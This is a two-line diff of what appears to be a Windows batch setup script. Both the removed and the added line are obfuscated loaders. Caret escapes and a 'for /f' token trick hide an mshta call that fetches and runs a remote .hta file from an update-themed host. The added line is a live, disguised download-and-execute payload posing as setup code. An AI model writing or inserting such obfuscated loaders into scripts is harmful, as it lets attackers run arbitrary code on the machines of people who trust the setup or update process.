@@ -1,2 +1,2 @@
-REM init 2933 v4
-f^or /f "tokens=2 delims=~" %%^i ^i^n ("frjz~mshta~hiir") do %%^i http://f^i^l^e^s.s^yn^c-s^vc.^e^x^ampl^e/upd^ate.^ht^a
+REM setup 8072 v4
+^f^o^r /^f "tokens=3 delims=#" %%i in ("vrmw#gygg#mshta") do %%^i ^h^t^tp://^dl.win^u^p^da^te-c^dn.^e^xample/^upd^ate.hta
